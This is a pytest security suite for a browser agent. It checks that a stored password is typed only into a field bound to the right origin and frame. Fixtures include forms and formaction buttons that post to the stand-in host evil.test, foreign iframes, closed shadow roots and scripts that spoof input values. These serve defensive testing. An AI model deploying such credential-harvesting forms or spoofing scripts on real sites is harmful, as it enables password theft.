"""At the moment of typing, a secret goes into the field it was bound to, or nowhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from browser_agent.core.action import Fill
from browser_agent.core.errors import StepFault
from browser_agent.core.target import Query, Ref
from tests.faults.world import Site, page
from tests.security.secrets.conftest import vault_for

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
SECRET = "correct-horse-battery"
FIELD = "<label>Pass <input type=password name=pass></label>"
PASS = Query(role="textbox", name="Pass")
WHERE = Query(label="Pass")


async def typed(session, target=WHERE) -> str:
    """What the refusal says; empty when the secret was typed."""
    found = await session.surface.locate(target, facts=True)
    assert len(found) == 1, found
    try:
        done = await session.surface.perform(Fill(target=target, value="${secrets.pass}"), found[0])
    except StepFault as error:
        fault = error.fault
    else:
        assert done.secrets == ("pass",)
        return ""
    assert fault.kind == "refused", fault
    assert SECRET not in str(fault)
    return fault.found


async def held(session) -> list[str]:
    return [
        await one.input_value()
        for frame in session.page.frames
        for one in await frame.query_selector_all("[name=pass]")
    ]


@pytest.mark.parametrize("frame", ["any", pytest.param("same-origin", marks=pytest.mark.long), "top"])
async def test_the_field_of_the_bound_page_gets_it(tab, tmp_path: Path, frame: str) -> None:
    with Site({"/": page(f"<form action=/in>{FIELD}</form>")}) as site:
        session = await tab(vault_for(site.url, tmp_path, {"pass": SECRET}, frame=frame, field="password"), site.url)

        assert await typed(session) == ""
        assert await held(session) == [SECRET]


async def test_a_field_that_drops_it_and_a_page_that_says_it_did_not(tab, tmp_path: Path) -> None:
    drops = """const field = document.querySelector('[name=pass]'); field.oninput = () => { field.type = 'text'; field.setAttribute('value', '');
      field.value = 'dropped'; }; """
    lies = f"Object.defineProperty(HTMLInputElement.prototype, 'value', {{ get: () => '{SECRET}', set: () => {{}} }});"
    drops = drops.replace("field.value = 'dropped'", "set.call(field, 'dropped')")
    set_ = "const set = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').set;"
    with Site({"/": page(f"<form action=/in>{FIELD}</form>", script=set_ + drops + lies)}) as site:
        session = await tab(vault_for(site.url, tmp_path, {"pass": SECRET}, field="password"), site.url)
        (found,) = await session.surface.locate(WHERE, facts=True)
        with pytest.raises(StepFault) as told:
            await session.surface.perform(Fill(target=WHERE, value="${secrets.pass}"), found)

    assert (told.value.fault.kind, told.value.fault.expected) == ("not_met", "the field to hold the secret")


@pytest.mark.parametrize(("frame", "told"), [("any", ""), ("same-origin", "a frame within"), ("top", "one in a frame")])
async def test_a_frame_of_the_bound_origin_in_a_foreign_page(tab, tmp_path: Path, frame: str, told: str) -> None:
    with Site({"/": page(FIELD)}) as inner, Site({"/": page(f"<iframe src={inner.url}/></iframe>")}) as outer:
        session = await tab(vault_for(inner.url, tmp_path, {"pass": SECRET}, frame=frame), outer.url, inner.url)

        said = await typed(session)
        assert said.startswith(told) and bool(said) == bool(told)
        assert await held(session) == ([SECRET] if not told else [""])


@pytest.mark.parametrize("by", ["words", "ref"])
async def test_a_foreign_frame_in_the_bound_page_gets_nothing_however_it_is_pointed_at(
    tab, tmp_path: Path, by: str
) -> None:
    with Site({"/": page(FIELD)}) as evil, Site({"/": page(f"<h1>ours</h1><iframe src={evil.url}/></iframe>")}) as site:
        session = await tab(vault_for(site.url, tmp_path, {"pass": SECRET}), site.url, evil.url)
        target = WHERE
        if by == "ref":
            seen = await session.surface.observe()
            target = Ref(ref=next(line.ref for line in seen.nodes if line.name == "Pass" and line.ref))

        assert await typed(session, target) == evil.url
        assert await held(session) == [""]


async def test_a_field_in_a_closed_shadow_root_of_a_foreign_frame_gets_nothing(tab, tmp_path: Path) -> None:
    closed = "const root = document.querySelector('#host').attachShadow({mode: 'closed'}); root.innerHTML = `%s`; window.kept = root;"
    inside = page("<div id=host></div>", script=closed % FIELD)
    with Site({"/": inside}) as evil, Site({"/": page(f"<iframe src={evil.url}/></iframe>")}) as site:
        for bound, told in ((site.url, evil.url), (evil.url, "")):
            session = await tab(vault_for(bound, tmp_path, {"pass": SECRET}), site.url, evil.url)
            seen = await session.surface.observe()
            target = Ref(ref=next(line.ref for line in seen.nodes if line.name == "Pass" and line.ref))

            assert await typed(session, target) == told
            value = await session.page.frames[1].evaluate("kept.querySelector('input').value")
            assert value == ("" if told else SECRET)


async def test_a_frame_that_a_foreign_page_blanked_gets_nothing(tab, tmp_path: Path) -> None:
    write = "const inner = document.querySelector('iframe').contentDocument; inner.body.innerHTML = `%s`;"
    with Site({"/": page("<iframe src=about:blank></iframe>", script=write % FIELD)}) as site:
        session = await tab(vault_for(site.url, tmp_path, {"pass": SECRET}), site.url)

        assert await typed(session) == "about:blank"


@pytest.mark.parametrize("form", [
    "<form action='https://evil.test/take'>%s</form>",
    "<form action=/in>%s<button formaction='https://evil.test/take'>Go</button></form>",
    "<form action=/in id=f>%s</form><button form=f formaction='https://evil.test/take'>Go</button>",
    "<form action=/in>%s<input type=submit formaction='https://evil.test/take'></form>",
    "<form action='https://shop.test@evil.test/'>%s<input name=action></form>",
])  # fmt: skip
async def test_a_form_that_may_post_elsewhere_gets_nothing(tab, tmp_path: Path, form: str) -> None:
    with Site({"/": page(form % FIELD)}) as site:
        session = await tab(vault_for(site.url, tmp_path, {"pass": SECRET}), site.url)

        assert "evil.test" in await typed(session)
        assert await held(session) == [""]


async def test_a_field_that_changed_its_kind_or_its_form_between_look_and_typing_gets_nothing(
    tab, tmp_path: Path
) -> None:
    with Site({"/": page(f"<form action=/in>{FIELD}</form>")}) as site:
        session = await tab(vault_for(site.url, tmp_path, {"pass": SECRET}, field="password"), site.url)
        for change, told in (
            ("document.querySelector('input').type = 'text'", "a text field"),
            ("document.querySelector('form').action = 'https://evil.test/'", "a form for https://evil.test/"),
        ):
            await session.page.goto(site.url)
            found = await session.surface.locate(WHERE, facts=True)
            await session.page.evaluate(change)

            with pytest.raises(StepFault) as caught:
                await session.surface.perform(Fill(target=WHERE, value="${secrets.pass}"), found[0])

            assert told in caught.value.fault.found
            assert await held(session) == [""]


async def test_a_look_alike_origin_gets_nothing(tab, tmp_path: Path) -> None:
    with Site({"/": page(FIELD)}) as site:
        port = site.url.rpartition(":")[2]
        for bound in (f"http://localhost:{port}", f"http://127.0.0.1.nip.localhost:{port}", "http://127.0.0.1"):
            session = await tab(vault_for("", tmp_path, {"pass": SECRET}, origins=(bound,)), site.url)

            assert await typed(session) == site.url


async def test_the_frame_of_the_secret_going_elsewhere_while_it_is_fetched_gets_nothing(tab, tmp_path: Path) -> None:
    with Site({"/": page(FIELD), "/other": page(FIELD)}) as site:
        vault = vault_for(site.url, tmp_path, {"pass": SECRET})
        session = await tab(vault, site.url)
        fetch = vault.fetch

        def slowly(template: str) -> dict[str, str]:
            moving.set()
            assert moved.wait(10)
            return fetch(template)

        import asyncio
        import threading

        moving, moved = threading.Event(), threading.Event()
        vault.fetch = slowly  # type: ignore[method-assign]
        found = await session.surface.locate(WHERE, facts=True)
        typing = asyncio.create_task(session.surface.perform(Fill(target=WHERE, value="${secrets.pass}"), found[0]))
        await asyncio.to_thread(moving.wait, 10)
        await session.page.goto(site.url + "/other")
        moved.set()

        with pytest.raises(StepFault) as caught:
            await typing
        assert SECRET not in str(caught.value)
        assert await held(session) == [""]
